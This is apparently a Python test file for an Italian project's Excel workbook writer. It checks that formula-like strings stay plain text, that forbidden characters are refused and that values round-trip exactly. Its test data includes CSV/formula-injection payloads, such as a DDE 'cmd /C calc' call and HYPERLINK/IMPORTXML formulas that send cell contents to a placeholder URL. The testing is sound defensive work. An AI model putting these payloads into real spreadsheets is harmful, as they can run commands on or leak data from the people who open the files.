"""Every workbook the project writes: nothing lost, nothing executed (opportunity_map._xlsx)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from _factories import make_map
from _xlsx_checks import assert_no_formulas, assert_strings_are_text, sheet_rows
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from opportunity_map import _xlsx
from opportunity_map._errors import DataError, UsageError
from opportunity_map._xlsx import (
    MAX_CELL_CHARS,
    MAX_COLUMNS,
    MAX_ROWS,
    Block,
    DropDown,
    Sheet,
    cell_value,
    check_sheets,
    sheet_titles,
    workbook_bytes,
    write_workbook,
)
from opportunity_map.evaluation import evaluate
from opportunity_map.report import write_evaluation
from opportunity_map.template import TEMPLATE_NAME, write_template

#: Strings Excel or LibreOffice would run or evaluate if they were written as formulas.
FORMULA_LIKE = [
    "=1+1",
    '=HYPERLINK("http://x/"&A1,"Clicca")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    " =1+1",
    "'=1+1",
    "#N/A",
    "#DIV/0!",
    "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
]
HYPERLINK = '=HYPERLINK("http://x/"&A1,"Clicca")'
_XML_FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def _cells(path: Path | bytes, sheet: str) -> dict[str, Any]:
    """``{coordinate: cell}`` of one sheet, openpyxl not data_only."""
    book = load_workbook(io.BytesIO(path) if isinstance(path, bytes) else path)
    return {c.coordinate: c for row in book[sheet].iter_rows() for c in row}


# ------------------------------------------------------------------ strings stay strings


def test_formula_like_strings_are_text_and_round_trip(tmp_path: Path) -> None:
    frame = pd.DataFrame({"nome": FORMULA_LIKE, "n": range(len(FORMULA_LIKE))})
    frame[HYPERLINK] = FORMULA_LIKE[::-1]  # a formula-like header too
    path = tmp_path / "t.xlsx"
    write_workbook(path, [Sheet("=dati", frame)])
    assert_no_formulas(path)
    assert_strings_are_text(path)
    rows = sheet_rows(path, "=dati")
    assert rows[0] == ["nome", "n", HYPERLINK]
    assert [r[0] for r in rows[1:]] == FORMULA_LIKE
    assert [r[2] for r in rows[1:]] == FORMULA_LIKE[::-1]
    assert all(c.data_type == "s" for c in load_workbook(path)["=dati"]["A"])
    back = pd.read_excel(path, sheet_name="=dati", dtype=str, keep_default_na=False)
    assert back["nome"].tolist() == FORMULA_LIKE
    assert back.columns.tolist() == ["nome", "n", HYPERLINK]


def test_no_quote_prefix_and_no_formula_in_the_xml(tmp_path: Path) -> None:
    data = workbook_bytes([Sheet("s", pd.DataFrame({"x": FORMULA_LIKE}))], where="s.xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
        styles = archive.read("xl/styles.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml
    assert 'quotePrefix="1"' not in styles
    assert xml.count('t="inlineStr"') == len(FORMULA_LIKE) + 1


@pytest.mark.parametrize("text", [
    "a\r\nb", "\r\n", "x\ry", "\r", "riga 1\r\nriga 2\r\n", "   ", "\n", " \t ", "  a  ",
    "_x000D_", "_x0041_", "\u2028", "\x7f\x85", "\U0001f600", "&amp; <b>", "\t",
])
def test_whitespace_and_escapes_round_trip(tmp_path: Path, text: str) -> None:
    path = tmp_path / "t.xlsx"
    write_workbook(path, [Sheet("s", pd.DataFrame({"x": [text, "=1"], text: [1, 2]}))])
    assert_no_formulas(path)
    rows = sheet_rows(path, "s")
    assert rows == [["x", text], [text, 1], ["=1", 2]]
    back = pd.read_excel(path, dtype=str, keep_default_na=False)
    assert back["x"].tolist() == [text, "=1"]


def test_empty_string_is_an_empty_cell(tmp_path: Path) -> None:
    data = workbook_bytes([Sheet("s", pd.DataFrame({"x": ["", None, "a"]}))], where="s")
    assert [c.value for c in load_workbook(io.BytesIO(data))["s"]["A"]] == ["x", None, None, "a"]


# ------------------------------------------------------------------ typed values


def test_numbers_dates_and_booleans_are_typed(tmp_path: Path) -> None:
    frame = pd.DataFrame({
        "intero": [1, 1234567, -3],
        "numpy": np.array([1.5, 0.30000000000000004, 1e-5]),
        "con_buchi": [1.0, np.nan, 3.0],
        "data": pd.to_datetime(["2026-06-30", None, "2027-01-01 08:30"], format="ISO8601"),
        "vero": [True, False, np.bool_(True)],
        "nullable": pd.array([1, None, 3], dtype="Int64"),
        "oggetti": [dt.date(2026, 1, 2), np.int64(7), None],
    })
    path = tmp_path / "t.xlsx"
    write_workbook(path, [Sheet("s", frame)])
    assert_no_formulas(path)
    assert_strings_are_text(path)
    c = _cells(path, "s")
    assert (c["A3"].value, c["A3"].data_type, c["A3"].number_format) == (1234567, "n", "#,##0")
    assert c["B2"].value == 1.5 and c["B2"].number_format == _xlsx.FLOAT_FORMAT
    assert c["B3"].value == 0.30000000000000004  # 17 significant digits kept
    assert c["B4"].value == 1e-5
    assert c["C2"].value == 1 and c["C3"].value is None and c["C2"].number_format == "#,##0"
    assert c["D2"].value == dt.datetime(2026, 6, 30) and c["D2"].number_format == "DD/MM/YYYY"
    assert c["D2"].is_date and c["D3"].value is None
    assert c["D4"].value == dt.datetime(2027, 1, 1, 8, 30)
    assert c["D4"].number_format == _xlsx.DATETIME_FORMAT
    assert [c[f"E{i}"].value for i in (2, 3, 4)] == [True, False, True]
    assert c["E2"].data_type == "b"
    assert [c[f"F{i}"].value for i in (2, 3, 4)] == [1, None, 3]
    assert c["G2"].value == dt.datetime(2026, 1, 2) and c["G3"].value == 7
    back = pd.read_excel(path)
    assert back["intero"].tolist() == [1, 1234567, -3]
    assert back["data"].dtype.kind == "M"


def test_values_excel_cannot_type_are_written_as_text() -> None:
    frame = pd.DataFrame({"x": [float("inf"), float("-inf"), 2**60, dt.date(1850, 5, 1), 1e308,
                                pd.Timestamp("2026-06-30 10:00", tz="Europe/Rome")]})
    cells = _cells(workbook_bytes([Sheet("s", frame)], where="s"), "s")
    assert [cells[f"A{i}"].value for i in range(2, 8)] == [
        "inf", "-inf", str(2**60), "01/05/1850", "1e+308", dt.datetime(2026, 6, 30, 10, 0)]


def test_cell_value_never_returns_a_float_excel_would_corrupt() -> None:
    assert cell_value(float("nan")) is None and cell_value(pd.NaT) is None
    assert cell_value(pd.NA) is None and cell_value(np.datetime64("NaT")) is None
    assert cell_value(5e-324) == "5e-324"  # subnormal
    assert cell_value(10**15 - 1) == 10**15 - 1 and cell_value(10**15) == "1000000000000000"


# ------------------------------------------------------------------ preflight


def _problems(frame: pd.DataFrame, name: str = "attori") -> list[Any]:
    return check_sheets([Sheet(name, frame)], where="mappa.xlsx")


@pytest.mark.parametrize("code", [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20),
                                  0xFFFE, 0xFFFF, 0xD800])
def test_characters_xml_forbids_are_problems(tmp_path: Path, code: int) -> None:
    frame = pd.DataFrame({"id": ["A", "B"],
                          "nome": pd.Series(["ok", f"Coop{chr(code)}x"], dtype=object)})
    problems = _problems(frame)
    assert len(problems) == 1
    p = problems[0]
    assert (p.file, p.row, p.column) == ("mappa.xlsx[attori]", 3, "nome")
    assert f"(U+{code:04X}) alla posizione 5" in p.message
    if code < 0x20:
        assert p.message.startswith("carattere di controllo non ammesso")
    target = tmp_path / "nuova" / "mappa.xlsx"
    with pytest.raises(DataError) as info:
        write_workbook(target, [Sheet("attori", frame)])
    assert info.value.problems == problems
    assert not target.exists() and not target.parent.exists()


def test_tab_newline_carriage_return_are_allowed() -> None:
    assert _problems(pd.DataFrame({"x": ["a\tb\nc\r\nd"]})) == []


def test_over_long_cell_names_table_row_and_column(tmp_path: Path) -> None:
    frame = pd.DataFrame({"id": ["A", "B", "C"],
                          "note": ["ok", "x" * MAX_CELL_CHARS, "=" + "y" * MAX_CELL_CHARS]})
    problems = _problems(frame, "relazioni")
    assert [(p.file, p.row, p.column) for p in problems] == [("mappa.xlsx[relazioni]", 4, "note")]
    assert problems[0].message.startswith(
        "il valore supera il limite di Excel di 32.767 caratteri per cella (32.768 caratteri)")
    target = tmp_path / "mappa.xlsx"
    target.write_bytes(b"old")
    with pytest.raises(DataError, match=r"mappa.xlsx\[relazioni\]:4: note: il valore supera"):
        write_workbook(target, [Sheet("relazioni", frame)], where="mappa.xlsx")
    assert target.read_bytes() == b"old"  # the old file is left alone
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mappa.xlsx"]
    # exactly at the limit: written whole, not truncated
    ok = pd.DataFrame({"note": ["=" + "y" * (MAX_CELL_CHARS - 1)]})
    write_workbook(target, [Sheet("relazioni", ok)])
    assert sheet_rows(target, "relazioni")[1] == ["=" + "y" * (MAX_CELL_CHARS - 1)]


def test_problems_in_headers_index_and_blocks() -> None:
    frame = pd.DataFrame({"a\x01": [1], "b": ["\x02"]}, index=pd.Index(["\x03"], name="k"))
    sheets = [Sheet("s", frame, index=True),
              Sheet("t", blocks=[Block(pd.DataFrame({"z": ["ok", "\x1f"]}), row=4, column=2)])]
    problems = check_sheets(sheets, where="w.xlsx")
    assert [(p.file, p.row, p.column) for p in problems] == [
        ("w.xlsx[s]", 1, "a<U+0001>"), ("w.xlsx[s]", 2, "k"), ("w.xlsx[s]", 2, "b"),
        ("w.xlsx[t]", 7, "z"),
    ]


def test_row_and_column_limits_are_refused(tmp_path: Path) -> None:
    fits = pd.DataFrame({"n": np.zeros(MAX_ROWS - 1, dtype=np.int8)})
    assert check_sheets([Sheet("attori", fits)], where="m.xlsx") == []
    too_long = pd.DataFrame({"n": np.zeros(MAX_ROWS, dtype=np.int8)})
    problems = check_sheets([Sheet("attori", too_long)], where="m.xlsx")
    assert len(problems) == 1 and (problems[0].row, problems[0].column) == (None, None)
    assert problems[0].file == "m.xlsx[attori]"
    assert "1.048.577 righe" in problems[0].message and "1.048.576" in problems[0].message
    wide = pd.DataFrame(columns=[f"c{i}" for i in range(MAX_COLUMNS + 1)])
    problems = check_sheets([Sheet("attori", wide)], where="m.xlsx")
    assert len(problems) == 1 and "16.385 colonne" in problems[0].message
    target = tmp_path / "m.xlsx"
    with pytest.raises(DataError):
        write_workbook(target, [Sheet("ok", fits.head(2)), Sheet("attori", wide)])
    assert list(tmp_path.iterdir()) == []


def test_layout_mistakes_are_usage_errors() -> None:
    one = pd.DataFrame({"a": [1, 2]})
    with pytest.raises(UsageError, match="overlap"):
        check_sheets([Sheet("s", one, blocks=[Block(one, row=2)])], where="w")
    check_sheets([Sheet("s", one, blocks=[Block(one, row=3)])], where="w")  # touching is fine
    with pytest.raises(UsageError, match="negative"):
        check_sheets([Sheet("s", blocks=[Block(one, row=-1)])], where="w")
    with pytest.raises(UsageError, match="drop-down"):
        check_sheets([Sheet("s", one, drop_downs=[DropDown("a", "elenchi", "x")])], where="w")
    with pytest.raises(UsageError, match="active"):
        workbook_bytes([Sheet("s", one)], where="w", active="t")


# ------------------------------------------------------------------ sheet names


def test_sheet_titles_are_valid_unique_and_deterministic() -> None:
    names = ["attori", "ATTORI", "a[b]:c*d?e/f\\g", "'citato'", "", "x" * 40, "x" * 35,
             "History", "riga\x0bdue"]
    titles = sheet_titles(names)
    assert titles == sheet_titles(names)
    assert titles[:2] == ["attori", "ATTORI_2"]
    assert titles[2] == "a_b__c_d_e_f_g" and titles[3] == "citato" and titles[4] == "Foglio"
    assert titles[5] == "x" * 31 and titles[6] == "x" * 29 + "_2"
    assert len({t.casefold() for t in titles}) == len(titles)
    for title in titles:
        assert 0 < len(title) <= 31 and not re.search(r"[\[\]:*?/\\\x00-\x1f]", title)
    # a valid name keeps its name even when an earlier invalid one would sanitise to it
    assert sheet_titles(["a/b", "a_b"]) == ["a_b_2", "a_b"]


def test_sanitised_names_are_used_in_the_workbook_and_problems() -> None:
    sheets = [Sheet("valutazione/2028", pd.DataFrame({"x": ["\x00"]}))]
    [problem] = check_sheets(sheets, where="v.xlsx")
    assert problem.file == "v.xlsx[valutazione_2028]"
    data = workbook_bytes([Sheet("valutazione/2028", pd.DataFrame({"x": [1]}))], where="v")
    assert load_workbook(io.BytesIO(data)).sheetnames == ["valutazione_2028"]


# ------------------------------------------------------------------ layout


def test_blocks_at_offsets_with_index_like_pandas(tmp_path: Path) -> None:
    matrix = pd.DataFrame([[0.5, np.nan], [0.25, 1.0]], columns=["p", "q"],
                          index=pd.Index(["=r1", "r2"], name="Baseline"))
    title = pd.DataFrame({"territorio": ["=evil"]})
    path = tmp_path / "b.xlsx"
    write_workbook(path, [Sheet("m", blocks=[Block(title), Block(matrix, row=3, index=True),
                                             Block(matrix, row=3, column=4, index=True)])])
    expected = pd.ExcelWriter(tmp_path / "pandas.xlsx", engine="openpyxl")
    with expected as writer:
        title.to_excel(writer, sheet_name="m", index=False)
        matrix.to_excel(writer, sheet_name="m", startrow=3)
        matrix.to_excel(writer, sheet_name="m", startrow=3, startcol=4)
    ours = [[v for v in row] for row in sheet_rows(path, "m")]
    theirs = [[v for v in row] for row in sheet_rows(tmp_path / "pandas.xlsx", "m")]
    assert ours == theirs
    assert_no_formulas(path)


def test_widths_freeze_active_and_drop_downs(tmp_path: Path) -> None:
    values = pd.DataFrame({"tipo": ["a", "=b", "c"]})
    data = workbook_bytes(
        [Sheet("dati", pd.DataFrame({"id": ["1"], "tipo": ["a"]}), widths={0: 33},
               freeze_header=True, drop_downs=[DropDown("tipo", "liste 1", "tipo", 50)]),
         Sheet("liste 1", values)],
        where="w", active="liste 1")
    book = load_workbook(io.BytesIO(data))
    ws = book["dati"]
    assert book.active.title == "liste 1"
    assert ws.freeze_panes == "A2" and ws.column_dimensions["A"].width == 33
    [dv] = ws.data_validations.dataValidation
    assert (str(dv.sqref), dv.formula1, dv.type) == ("B2:B50", "'liste 1'!$A$2:$A$4", "list")


# ------------------------------------------------------------------ targets


def test_write_to_a_binary_file_and_bytes_are_identical_content() -> None:
    sheets = [Sheet("s", pd.DataFrame({"x": ["=1", "a\r\nb"], "n": [1, 2]}))]
    buffer = io.BytesIO()
    write_workbook(buffer, sheets)
    for data in (buffer.getvalue(), workbook_bytes(sheets, where="s")):
        assert_no_formulas(data)
        assert sheet_rows(data, "s") == [["x", "n"], ["=1", 1], ["a\r\nb", 2]]


def test_interrupted_save_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                        recwarn: pytest.WarningsRecorder) -> None:
    def interrupt(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(_xlsx, "_write_sheet", interrupt)  # half-way through the archive
    with pytest.raises(KeyboardInterrupt):
        write_workbook(tmp_path / "m.xlsx", [Sheet("s", pd.DataFrame({"x": [1, 2]}))])
    assert list(tmp_path.iterdir()) == []
    import gc

    gc.collect()
    assert not [w for w in recwarn if "Exception ignored" in str(w.message)]


# ------------------------------------------------------------------ the project's writers


def test_template_keeps_a_formula_like_territory_as_text(tmp_path: Path) -> None:
    territories = tmp_path / "territories.csv"
    with territories.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["slug", "name", "province_code"])
        writer.writerow(["bergamo", HYPERLINK, "16"])
        writer.writerow(["como", "=1+1", "13"])
    path = write_template(tmp_path / "modello", territories=territories)
    assert path.name == TEMPLATE_NAME
    assert_no_formulas(path)
    assert_strings_are_text(path)
    book = load_workbook(path)
    assert book.sheetnames == ["istruzioni", "attori", "opportunita", "relazioni", "elenchi"]
    assert book.active.title == "attori"
    lists = book["elenchi"]
    assert [c.value for c in lists["I"][:3]] == ["territorio", HYPERLINK, "=1+1"]
    assert [c.value for c in lists["J"][:3]] == ["codice", "bergamo", "como"]
    assert lists["I2"].data_type == "s"
    assert lists.protection.sheet  # the lists the drop-downs read cannot be overwritten
    # drop-downs, date checks, frozen header, styled header, instructions kept
    attori = book["attori"]
    formulas = {str(dv.sqref): dv.formula1 for dv in attori.data_validations.dataValidation
                if dv.type == "list"}
    assert formulas == {"C2:C2001": "elenchi!$A$2:$A$" + str(1 + len(_kinds())),
                        "H2:H2001": "elenchi!$I$2:$I$3"}
    dates = {str(dv.sqref) for dv in attori.data_validations.dataValidation if dv.type == "date"}
    assert dates == {"I2:I2001", "J2:J2001", "O2:O2001"}  # dal, al, verificato_il
    assert attori.freeze_panes == "A2" and attori["A1"].font.b
    assert attori["A1"].fill.fgColor.rgb.endswith("DDEBF7")
    assert "geocodifica" not in [c.value for c in attori[1]]
    relazioni = book["relazioni"]
    assert {str(dv.sqref) for dv in relazioni.data_validations.dataValidation
            if dv.type == "list"} == {"A2:A2001", "B2:B2001", "C2:C2001", "D2:D2001"}
    help_sheet = book["istruzioni"]
    assert help_sheet["A1"].font.sz == 14 and help_sheet["A1"].font.b
    header_row = next(c.row for c in help_sheet["A"] if c.value == "foglio")
    assert help_sheet[f"D{header_row + 1}"].alignment.wrap_text
    assert help_sheet.column_dimensions["D"].width == 100


def _kinds() -> list[str]:
    from opportunity_map.schema import ACTOR_KIND_LABELS

    return list(ACTOR_KIND_LABELS)


def test_template_refuses_a_territory_name_excel_cannot_hold(tmp_path: Path) -> None:
    territories = pd.DataFrame({"slug": ["bergamo"], "name": ["Berg\x0bamo"],
                                "province_code": ["16"]})
    territories.to_csv(tmp_path / "territories.csv", index=False)
    with pytest.raises(DataError) as info:
        write_template(tmp_path / "modello", territories=tmp_path / "territories.csv")
    [problem] = info.value.problems
    assert problem.file == f"{TEMPLATE_NAME}[elenchi]"
    assert (problem.row, problem.column) == (2, "territorio")  # the name is the label
    assert "U+000B" in problem.message
    assert not (tmp_path / "modello" / TEMPLATE_NAME).exists()


def _evil_map(name: str) -> Any:
    actors = [{"id": f"a{i}", "territory": "evil"} for i in range(5)]
    rels = [{"source": "a0", "target": "a1"}, {"source": "a1", "target": "a2"},
            {"source": "a3", "target": "a4", "since": "2026-06-01"}]
    return make_map(actors, rels, territories=[("evil", name), ("bergamo", "Bergamo")])


def test_evaluation_workbook_keeps_a_formula_like_territory_as_text(tmp_path: Path) -> None:
    name = "=1+1 " + HYPERLINK
    ev = evaluate(_evil_map(name), baseline="2026-03-31", as_of="2027-03-31", n_boot=30, seed=0)
    path = write_evaluation(ev, tmp_path)["xlsx"]
    assert_no_formulas(path)
    assert_strings_are_text(path)
    book = load_workbook(path)
    table = book["Valutazione"]
    header = [c.value for c in table[1]]
    names = [table.cell(r, header.index("Territorio") + 1).value
             for r in range(2, table.max_row + 1)]
    assert name in names
    matrices = [c.value for c in book["Matrici dei blocchi"]["A"]]
    assert name in matrices
    n_panel = table.cell(2, header.index("Organizzazioni del panel") + 1)
    density = table.cell(2, header.index("Densità baseline") + 1)
    assert n_panel.data_type == "n" and isinstance(n_panel.value, int)
    assert density.data_type == "n" and density.number_format == "0.0000"
    series = book["Serie semestrale"]
    assert series["C2"].is_date and series["C2"].number_format == "DD/MM/YYYY"
    back = pd.read_excel(path, sheet_name="Valutazione")
    pd.testing.assert_series_equal(back["Densità baseline"], ev.table["density_baseline"],
                                   check_dtype=False, check_names=False)


def test_evaluation_with_a_control_character_writes_nothing(tmp_path: Path) -> None:
    ev = evaluate(_evil_map("Ber\x07gamo"), baseline="2026-03-31", as_of="2027-03-31",
                  n_boot=0)
    with pytest.raises(DataError) as info:
        write_evaluation(ev, tmp_path / "out")
    files = {p.file for p in info.value.problems}
    assert files == {"evaluation.xlsx[Valutazione]", "evaluation.xlsx[Matrici dei blocchi]"}
    assert not (tmp_path / "out").exists()


# ------------------------------------------------------------------ property


_PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\r\n", " ", "'", "#N/A", "=HYPERLINK(",
             "=cmd|' /C calc'!A0", "_x000D_", ""]
_FORBIDDEN_CHARS = [chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20),
                                     0xD800, 0xDFFF, 0xFFFE, 0xFFFF)]
_GOOD_TEXT = st.text(st.characters(exclude_categories=["Cs"]).filter(
    lambda c: not _XML_FORBIDDEN.match(c)))
_TEXT = st.one_of(
    _GOOD_TEXT,
    st.builds(lambda p, s: p + s, st.sampled_from(_PREFIXES), _GOOD_TEXT),
    st.integers(MAX_CELL_CHARS - 3, MAX_CELL_CHARS).map(lambda n: "=" + "x" * (n - 1)),
)
#: Strings Excel cannot hold: a forbidden character, too long, anything st.text() makes.
_BAD_TEXT = st.one_of(
    st.builds(lambda a, c, b: a + c + b, st.text(max_size=8), st.sampled_from(_FORBIDDEN_CHARS),
              st.text(max_size=8)),
    st.integers(MAX_CELL_CHARS + 1, MAX_CELL_CHARS + 3).map(lambda n: "=" + "x" * (n - 1)),
    st.text(),  # control characters included, or not: the test decides by itself
)
_VALUE = st.one_of(
    _TEXT, st.none(), st.booleans(), st.integers(-(2**63), 2**63 - 1), st.floats(),
    st.datetimes(min_value=dt.datetime(1800, 1, 1), max_value=dt.datetime(2200, 1, 1))
    .map(lambda d: d.replace(microsecond=0)),
    st.dates(min_value=dt.date(1800, 1, 1), max_value=dt.date(2200, 1, 1)),
)


def _forbidden(text: str) -> bool:
    return len(text) > MAX_CELL_CHARS or bool(_XML_FORBIDDEN.search(text))


def _expected(value: object) -> object:
    v = cell_value(value)
    if isinstance(v, dt.date) and not isinstance(v, dt.datetime):
        return dt.datetime.combine(v, dt.time())
    return v


@settings(max_examples=50, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(data=st.data())
def test_property_problem_or_exact_round_trip_without_formulas(tmp_path: Path,
                                                               data: st.DataObject) -> None:
    n_rows = data.draw(st.integers(0, 4), label="rows")
    headers = data.draw(st.lists(st.one_of(_TEXT, st.sampled_from(["id", "nome"])),
                                 min_size=1, max_size=5, unique=True), label="headers")
    columns = {}
    for header in headers:
        kind = data.draw(st.sampled_from(["text", "mixed", "float", "int"]))
        values: st.SearchStrategy[Any] = {
            "text": st.one_of(_TEXT, st.none()), "mixed": _VALUE,
            "float": st.floats(), "int": st.integers(-(2**62), 2**62),
        }[kind]
        columns[header] = data.draw(st.lists(values, min_size=n_rows, max_size=n_rows))
    if data.draw(st.booleans(), label="inject a string Excel may not hold"):
        bad = data.draw(_BAD_TEXT, label="bad")
        if n_rows and data.draw(st.booleans(), label="in the data"):
            header = data.draw(st.sampled_from(headers))
            columns[header][data.draw(st.integers(0, n_rows - 1))] = bad
        elif bad not in headers:
            headers[data.draw(st.integers(0, len(headers) - 1))] = bad
            columns = dict(zip(headers, columns.values(), strict=True))
    frame = pd.DataFrame({j: pd.Series(columns[h], dtype=float if columns[h] and all(
        isinstance(v, float) for v in columns[h]) else object) for j, h in enumerate(headers)})
    frame.columns = pd.Index(headers, dtype=object)  # may hold lone surrogates
    sheets = [Sheet("dati", frame)]
    path = tmp_path / "p.xlsx"
    path.unlink(missing_ok=True)  # left by an earlier example that failed

    texts = [*headers, *(v for vs in columns.values() for v in vs
                         if isinstance(cell_value(v), str))]
    texts = [cell_value(t) or "" for t in texts]
    problems = check_sheets(sheets, where="p.xlsx")
    assert bool(problems) == any(_forbidden(t) for t in texts)
    event("preflight problem" if problems else "written")
    if problems:
        assert all(p.file == "p.xlsx[dati]" and p.row is not None for p in problems)
        with pytest.raises(DataError):
            write_workbook(path, sheets, where="p.xlsx")
        assert not path.exists()
        return

    write_workbook(path, sheets)
    assert_no_formulas(path)
    assert_strings_are_text(path)
    rows = sheet_rows(path, "dati")
    width = len(headers)
    rows = [row + [None] * (width - len(row)) for row in rows]
    rows += [[None] * width] * (n_rows + 1 - len(rows))
    assert rows[0] == [cell_value(h) for h in headers]
    for j, header in enumerate(headers):
        got = [row[j] for row in rows[1:]]
        want = [_expected(v) for v in columns[header]]
        assert got == want, header
    path.unlink()


def test_columns_written_at_once_read_back_as_value_by_value(tmp_path: Path) -> None:
    """The column-wise writer (text, float, int, bool, datetime columns) against the
    values :func:`cell_value` gives one by one."""
    frame = pd.DataFrame({
        "testo": pd.array(["a&b<c>", None, "", "x\r\ny", "=1+1", " "], dtype="str"),
        "oggetti": ["a&b", None, "", "\r", "@x", "é😀"],
        "float": [1.5, np.nan, 3.0, float("inf"), 1e308 * 10, 0.1 + 0.2],
        "int": np.array([1, -2, 10**15, 0, 7, 2**62], dtype=np.int64),
        "bool": [True, False, True, False, True, False],
        "date": pd.to_datetime(["2026-06-30", None, "2027-01-01 08:30:15.5", "1900-03-01",
                                "2262-01-01", "1999-12-31 23:59:59"], format="ISO8601"),
        "zona": pd.to_datetime(["2026-06-30 10:00"] * 6).tz_localize("Europe/Rome"),
        "secondi": np.array(["1850-05-01", "2026-01-01", "NaT", "9999-12-31", "2000-01-01",
                             "2000-01-02"], dtype="datetime64[s]"),
    })
    path = tmp_path / "c.xlsx"
    write_workbook(path, [Sheet("s", frame)])
    assert_no_formulas(path)
    assert_strings_are_text(path)
    cells = _cells(path, "s")
    for j, column in enumerate(frame.columns):
        letter = "ABCDEFGH"[j]
        for i, value in enumerate(frame[column]):
            want = cell_value(value)
            if isinstance(want, dt.date) and not isinstance(want, dt.datetime):
                want = dt.datetime.combine(want, dt.time())
            assert cells[f"{letter}{i + 2}"].value == want, (column, i)
